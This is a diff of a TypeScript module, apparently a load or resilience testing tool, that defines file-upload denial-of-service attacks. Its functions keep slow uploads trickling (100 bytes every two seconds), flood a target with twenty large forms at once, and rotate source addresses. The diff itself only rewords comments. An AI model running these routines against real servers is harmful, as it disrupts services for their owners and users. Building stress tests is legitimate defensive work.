@@ -9,13 +9,15 @@ const fileHead =
   '--b\r\nContent-Disposition: form-data; name="files"; filename="a.pdf"\r\n\r\n%PDF-1.7 '
 const end = '\r\n--b--\r\n'
 
-/** Attacker's address number `index`; uploads in large numbers need more than one. */
+/** Returns the attacker's IP address number `index`; many uploads need several addresses. */
 const addressOf = ({ from }: Target, index: number) => from.replace(/\d+$/, `${2 + (index % 10)}`)
 
 const head = ({ url }: Target, path: string, length: number, headers = '') =>
   `POST ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nOrigin: ${url}\r\n${headers}${boundary}Content-Length: ${length}\r\n\r\n`
 
-/** Keeps so many uploads open that get 100 bytes every two seconds; one that is closed is replaced. */
+/**
+ * Keeps `count` uploads open that send 100 bytes every two seconds; replaces those that are closed.
+ */
 async function trickle(target: Target, path: string, count: number): Promise<void> {
   const { url, from, signal, note } = target
   async function keep() {
@@ -37,13 +39,13 @@ async function trickle(target: Target, path: string, count: number): Promise<voi
 interface Flood {
   paths: readonly string[]
   bytes: number
-  /** Further parts of the form. */
+  /** Other fields of the form. */
   fields?: Readonly<Record<string, string>>
   headers?: string
   isFromManyAddresses?: boolean
 }
 
-/** Sends twenty forms with large files at the same time, over and over. */
+/** Repeatedly sends twenty forms with large files at the same time. */
 async function flood(target: Target, { paths, bytes, ...more }: Flood): Promise<void> {
   const { url, from, signal, note } = target
   const { fields = {}, headers = '', isFromManyAddresses = false } = more
@@ -76,7 +78,7 @@ async function flood(target: Target, { paths, bytes, ...more }: Flood): Promise<
   await Promise.all(Array.from({ length: 20 }, keep))
 }
 
-/** Forms with files: slow ones, large ones, of strangers, customers and members. */
+/** Attacks with file uploads, slow and large, by strangers, customers and members. */
 export const uploads: readonly Attack[] = [
   {
     name: '6 uploads at an unknown link, 100 bytes every 2 s',
